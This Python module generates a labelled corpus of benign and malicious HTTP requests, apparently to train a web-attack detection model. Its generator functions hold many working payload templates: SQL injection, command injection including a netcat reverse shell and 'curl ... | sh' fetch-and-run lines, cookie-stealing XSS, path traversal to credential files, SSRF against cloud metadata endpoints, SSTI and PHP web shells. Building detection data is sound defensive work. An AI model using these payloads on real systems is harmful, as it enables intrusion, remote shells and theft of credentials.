"""Deterministic generator for the bundled seed corpus.

Benign traffic comes from hand-written request templates filled with random
vocabulary; attacks come from per-class payload families wrapped in request
contexts. About a quarter of attack records are emitted as an obfuscated
variant (via ``augment``) of a payload that does not otherwise appear.
"""

from __future__ import annotations

import random
from importlib import resources

from .augment import OP_NAMES, AugmentOp, apply
from .corpus import AttackClass, Dataset, LabeledRecord, load_dataset

DEFAULT_COUNTS = {
    AttackClass.NORMAL: 2400,
    AttackClass.SQLI: 650,
    AttackClass.OS_COMMAND_INJECTION: 420,
    AttackClass.PATH_TRAVERSAL: 360,
    AttackClass.XSS: 340,
    AttackClass.SSRF: 240,
    AttackClass.COMMAND_INJECTION: 210,
    AttackClass.SSTI: 200,
    AttackClass.CODE_INJECTION: 180,
}

WORDS = (
    "products items blog news api users account settings search cart checkout images "
    "static docs help about contact category shoes electronics books orders profile "
    "dashboard reports media assets articles posts comments tags archive faq pricing team "
    "careers events store garden kitchen travel music movies sports health finance weather "
    "recipes pasta summer winter sale deals gifts kids women men home office laptop phone "
    "camera watch jacket boots coffee tea guide review compare wishlist invoice shipping"
).split()
NAMES = "alice bob carol dave erin frank grace heidi ivan judy mallory oscar peggy trent victor".split()
DOMAINS = "example.com shop.example.org news.example.net cdn.example.com partner.example.io".split()
EXTS = ("css", "js", "png", "jpg", "svg", "woff2", "ico", "webp")
PARAMS = "id page q query search item ref name user file path url dest next redirect lang cat sort view".split()
TABLES = "users accounts admin members customers orders passwords credentials".split()
COLUMNS = "username password email passwd user_pass credit_card ssn token".split()
SHELL_CMDS = (
    "cat /etc/passwd", "id", "whoami", "uname -a", "ls -la /", "ps aux", "netstat -an",
    "cat /etc/shadow", "ifconfig", "pwd", "ls", "echo vulnerable", "uname -r",
)
TARGETS = (
    "etc/passwd", "etc/shadow", "etc/hosts", "windows/win.ini", "boot.ini",
    "proc/self/environ", "var/log/apache2/access.log", "WEB-INF/web.xml", "etc/group",
    "windows/system32/drivers/etc/hosts",
)


def _words(rng, k):
    return [rng.choice(WORDS) for _ in range(k)]


def _ip(rng):
    return f"{rng.randint(11, 223)}.{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}"


def _token(rng, n=16):
    return "".join(rng.choice("0123456789abcdef") for _ in range(n))


# -- benign ----------------------------------------------------------------

def _benign_query(rng):
    pairs = []
    for _ in range(rng.randint(1, 4)):
        kind = rng.randrange(12)
        if kind == 0:
            pairs.append(f"id={rng.randint(1, 99999)}")
        elif kind == 1:
            pairs.append(f"page={rng.randint(1, 50)}")
        elif kind == 2:
            pairs.append(f"sort={rng.choice(['price', 'name', 'date', 'rating'])}&order={rng.choice(['asc', 'desc'])}")
        elif kind == 3:
            sep = rng.choice(["+", "%20", " "])
            pairs.append("q=" + sep.join(_words(rng, rng.randint(1, 4))))
        elif kind == 4:
            pairs.append(f"lang={rng.choice(['en', 'fr', 'de', 'es', 'ar'])}")
        elif kind == 5:
            pairs.append(f"utm_source={rng.choice(['newsletter', 'twitter', 'google'])}&utm_medium={rng.choice(['email', 'cpc', 'social'])}")
        elif kind == 6:
            pairs.append(f"session={_token(rng, rng.choice([16, 24, 32]))}")
        elif kind == 7:
            pairs.append(f"email={rng.choice(NAMES)}%40{rng.choice(DOMAINS)}")
        elif kind == 8:
            pairs.append(f"date={rng.randint(2015, 2025)}-{rng.randint(1, 12):02d}-{rng.randint(1, 28):02d}")
        elif kind == 9:
            pairs.append(f"redirect=%2F{rng.choice(WORDS)}%2F{rng.choice(WORDS)}")
        elif kind == 10:
            pairs.append(f"url=https://{rng.choice(DOMAINS)}/{rng.choice(WORDS)}")
        else:
            pairs.append(f"{rng.choice(WORDS)}={rng.choice(WORDS)}")
    return "&".join(pairs)


def _benign_path(rng):
    return "/" + "/".join(_words(rng, rng.randint(1, 4)))


def benign_request(rng: random.Random) -> str:
    kind = rng.randrange(10)
    if kind <= 2:
        return f"GET {_benign_path(rng)}?{_benign_query(rng)}"
    if kind == 3:
        return f"GET {_benign_path(rng)}"
    if kind == 4:
        name = f"{rng.choice(WORDS)}.{_token(rng, 6)}.min" if rng.random() < 0.5 else rng.choice(WORDS)
        return f"GET /static/{rng.choice(['css', 'js', 'img', 'fonts'])}/{name}.{rng.choice(EXTS)}"
    if kind == 5:
        user = rng.choice(NAMES) + str(rng.randint(1, 999))
        return f"POST /login HTTP/1.1\n\nusername={user}&password={_token(rng, 10)}&remember={rng.choice(['on', 'off'])}"
    if kind == 6:
        body = '{"item": "%s", "qty": %d, "note": "%s"}' % (rng.choice(WORDS), rng.randint(1, 9), " ".join(_words(rng, 3)))
        return f"POST /api/v{rng.randint(1, 3)}/{rng.choice(WORDS)} HTTP/1.1\n\n{body}"
    if kind == 7:
        return _benign_query(rng)
    if kind == 8:
        year = rng.randint(2015, 2025)
        slug = "-".join(_words(rng, rng.randint(2, 6)))
        return f"GET /blog/{year}/{rng.randint(1, 12):02d}/{slug}"
    comment = " ".join(_words(rng, rng.randint(3, 12)))
    if rng.random() < 0.3:
        comment += rng.choice([" - 50%25 off!", " (great!)", ", thanks", "; see you", " :)"])
    return f"POST /{rng.choice(WORDS)}/comment HTTP/1.1\n\nauthor={rng.choice(NAMES)}&text={comment}"


# -- attacks ---------------------------------------------------------------

def _sqli(rng):
    n = rng.randint(1, 9999)
    t, c = rng.choice(TABLES), rng.choice(COLUMNS)
    a = rng.choice(["a", "x", "1", "abc"])
    k = rng.randint(1, 9)
    return rng.choice([
        f"{n}' OR '{a}'='{a}",
        f"{n} OR {k}={k}",
        f"' OR 1=1-- ",
        f"{n} UNION SELECT {c},{rng.choice(COLUMNS)} FROM {t}--",
        f"{n}' UNION ALL SELECT NULL,{c},NULL--",
        f"{n}; DROP TABLE {t}--",
        f"{n}' AND SLEEP({k})--",
        f"{n}' AND extractvalue(1,concat(0x7e,(SELECT {c} FROM {t} LIMIT 1)))--",
        f"admin'--",
        f"{n}' ORDER BY {k}--",
        f"{n}'; WAITFOR DELAY '0:0:{k}'--",
        f"' AND 1=(SELECT COUNT(*) FROM information_schema.tables)--",
        f"{n} AND BENCHMARK({k}000000,MD5({n}))",
        f"'; EXEC xp_cmdshell('{rng.choice(SHELL_CMDS)}')--",
        f"{n}' AND (SELECT SUBSTRING({c},1,1) FROM {t} WHERE {c}='{a}')='{a}",
        f"-{n}' UNION SELECT 1,group_concat({c}),3 FROM {t}#",
    ])


def _oscmd(rng):
    cmd = rng.choice(SHELL_CMDS)
    host = rng.choice(["127.0.0.1", "localhost", "8.8.8.8", rng.choice(DOMAINS), _ip(rng)])
    return rng.choice([
        f"{host};{cmd}",
        f"{host}|{cmd}",
        f"{host} && {cmd}",
        f"$({cmd})",
        f"`{cmd}`",
        f"; /bin/bash -c '{cmd}'",
        f"| nc -e /bin/sh {_ip(rng)} {rng.randint(1024, 65000)}",
        f"; ping -c {rng.randint(1, 20)} {_ip(rng)}",
        f"|| wget http://{_ip(rng)}/{rng.choice(WORDS)}.sh",
        f";cat${{IFS}}/etc/passwd",
        f"{host}; curl -s http://{_ip(rng)}/x | sh",
        f"& {cmd} &",
        f"{host}\n{cmd}",
        f"; sleep {rng.randint(2, 30)}",
    ])


def _traversal(rng):
    target = rng.choice(TARGETS)
    k = rng.randint(2, 8)
    return rng.choice([
        "../" * k + target,
        "..%2f" * k + target.replace("/", "%2f"),
        "%2e%2e%2f" * k + target,
        "..\\" * k + target.replace("/", "\\"),
        "....//" * k + target,
        f"/var/www/{rng.choice(WORDS)}/" + "../" * k + target,
        "..%252f" * k + target,
        "%c0%ae%c0%ae/" * k + target,
        f"{rng.choice(WORDS)}/" + "../" * k + target + "%00.png",
    ])


def _xss(rng):
    n = rng.randint(1, 999)
    w = rng.choice(WORDS)
    return rng.choice([
        f"<script>alert({n})</script>",
        f"<img src=x onerror=alert({n})>",
        f"<svg/onload=alert(document.cookie)>",
        f"\"><script>document.location='http://{_ip(rng)}/?c='+document.cookie</script>",
        f"javascript:alert({n})",
        f"<iframe src=javascript:alert({n})>",
        f"<body onload=alert('{w}')>",
        f"'\"><img src=x onerror=prompt({n})>",
        f"<a href=\"javascript:confirm({n})\">{w}</a>",
        f"<details open ontoggle=alert({n})>",
        f"<input autofocus onfocus=alert({n})>",
        f"<ScRiPt>alert(String.fromCharCode({n},{n + 1}))</ScRiPt>",
    ])


def _ssrf(rng):
    port = rng.choice([22, 25, 80, 443, 3306, 6379, 8080, 8443, 9200, 11211])
    return rng.choice([
        f"http://127.0.0.1:{port}/{rng.choice(['admin', 'server-status', 'metrics'])}",
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        f"http://localhost:{port}/{rng.choice(WORDS)}",
        f"file:///{rng.choice(TARGETS)}",
        f"gopher://127.0.0.1:{port}/_INFO",
        f"dict://localhost:{port}/stats",
        "http://0x7f000001/",
        "http://2130706433/",
        f"http://[::1]:{port}/",
        f"http://10.{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}/internal",
        f"http://192.168.{rng.randint(0, 255)}.{rng.randint(1, 254)}/admin",
        "http://metadata.google.internal/computeMetadata/v1/",
        f"http://{rng.choice(NAMES)}@127.0.0.1:{port}/",
    ])


def _cmdi(rng):
    w, dom = rng.choice(NAMES), rng.choice(DOMAINS)
    n = rng.randint(1, 99)
    return rng.choice([
        "*)(uid=*))(|(uid=*",
        f"{w}*)((|userPassword=*)",
        "*)(objectClass=*",
        f"{w})(cn=*",
        f"{w}@{dom}%0d%0aBcc: {rng.choice(NAMES)}@{rng.choice(DOMAINS)}",
        f"x%0d%0aRCPT TO: <{w}@{dom}>",
        "username[$ne]=x&password[$ne]=x",
        '{"username": {"$gt": ""}, "password": {"$gt": ""}}',
        f"{w}[$regex]=.*",
        f"%0d%0aSET {rng.choice(WORDS)} {n}%0d%0a",
        "%0D%0ACONFIG SET dir /tmp%0D%0A",
        "%0d%0aFLUSHALL%0d%0a",
        "' or count(/child::node())=1 or '",
        f"' or string-length(name(/*[1]))={n} or '",
        f"{w}' || '1'=='1",
    ])


def _ssti(rng):
    a, b = rng.randint(2, 99), rng.randint(2, 99)
    return rng.choice([
        f"{{{{{a}*{b}}}}}",
        "{{config.items()}}",
        f"${{{a}*{b}}}",
        f"<%= {a}*{b} %>",
        f"#{{{a}*{b}}}",
        "{{''.__class__.__mro__[1].__subclasses__()}}",
        "{% for c in [].__class__.__base__.__subclasses__() %}{{c.__name__}}{% endfor %}",
        "{{request.application.__globals__.__builtins__.open('/etc/passwd').read()}}",
        f"*{{{a}*{b}}}",
        f"${{{{{a}*{b}}}}}",
        "{{lipsum.__globals__.os.popen('id').read()}}",
        "{{cycler.__init__.__globals__.os.popen('id').read()}}",
        f"{{{{ '{rng.choice(WORDS)}'|upper }}}}",
    ])


def _code(rng):
    cmd = rng.choice(SHELL_CMDS)
    n = rng.randint(1, 9999)
    return rng.choice([
        f"eval('{n}+{n}')",
        f"<?php system('{cmd}'); ?>",
        f"__import__('os').system('{cmd}')",
        f"require('child_process').exec('{cmd}')",
        "phpinfo()",
        "';system($_GET['c']);//",
        f"Runtime.getRuntime().exec(\"{cmd}\")",
        f"base64_decode('{_token(rng, 12)}')",
        "assert($_POST['x'])",
        f"exec('import os; os.system(\"{cmd}\")')",
        "process.mainModule.require('fs').readFileSync('/etc/passwd')",
        "Function('return process')().exit()",
        f"eval(compile('print({n})', '<s>', 'exec'))",
        f"<?php echo shell_exec($_GET['{rng.choice(PARAMS)}']); ?>",
    ])


GENERATORS = {
    AttackClass.SQLI: _sqli,
    AttackClass.OS_COMMAND_INJECTION: _oscmd,
    AttackClass.PATH_TRAVERSAL: _traversal,
    AttackClass.XSS: _xss,
    AttackClass.SSRF: _ssrf,
    AttackClass.COMMAND_INJECTION: _cmdi,
    AttackClass.SSTI: _ssti,
    AttackClass.CODE_INJECTION: _code,
}


def attack_payload(cls: AttackClass, rng: random.Random) -> str:
    return GENERATORS[cls](rng)


def wrap_payload(payload: str, rng: random.Random) -> str:
    """Place a payload into a request context."""
    param = rng.choice(PARAMS)
    kind = rng.randrange(5)
    if kind == 0:
        return f"GET {_benign_path(rng)}?{param}={payload}"
    if kind == 1:
        return f"GET {_benign_path(rng)}?{_benign_query(rng)}&{param}={payload}"
    if kind == 2:
        return f"POST {_benign_path(rng)} HTTP/1.1\n\n{param}={payload}"
    if kind == 3:
        return f"{param}={payload}"
    return payload


def generate(seed: int = 2020, counts=None, variant_fraction: float = 0.25) -> Dataset:
    counts = DEFAULT_COUNTS if counts is None else counts
    rng = random.Random(seed)
    items: list[tuple[AttackClass, str, str | None]] = []
    for cls, n in counts.items():
        for _ in range(n):
            if cls is AttackClass.NORMAL:
                items.append((cls, benign_request(rng), None))
                continue
            text = wrap_payload(attack_payload(cls, rng), rng)
            aug = None
            if rng.random() < variant_fraction:
                op = AugmentOp(rng.choice(OP_NAMES), rng.randrange(1 << 31))
                text = apply(op, text)
                aug = f"augmented:{op.name}"
            items.append((cls, text, aug))
    rng.shuffle(items)
    records = [LabeledRecord(text, cls, i, aug) for i, (cls, text, aug) in enumerate(items)]
    return Dataset(tuple(records), provenance=f"seed-corpus(seed={seed})")


def seed_corpus_path():
    return resources.files("wamm").joinpath("data/seed_corpus.jsonl")


def load_seed_corpus() -> Dataset:
    with resources.as_file(seed_corpus_path()) as path:
        ds, _ = load_dataset(path)
    return ds


SEED_MODEL_SEED = 7


def seed_model_path():
    return resources.files("wamm").joinpath("data/seed_model.wamm")


def train_seed_model(out=None):
    """Train the bundled model on the whole seed corpus with default settings.

    Reproduces ``data/seed_model.wamm`` byte for byte when ``out`` is that path.
    """
    from . import corpus, features, gbdt, model_io

    ds = load_seed_corpus()
    pipe = features.FeaturePipeline.fit(ds.texts)
    cfg = gbdt.TrainConfig(seed=SEED_MODEL_SEED)
    model, log = gbdt.train(pipe.matrix(ds.texts), ds.labels, corpus.class_weights(ds), cfg, pipe)
    if out is not None:
        model_io.save_model(model, out)
    return model, log

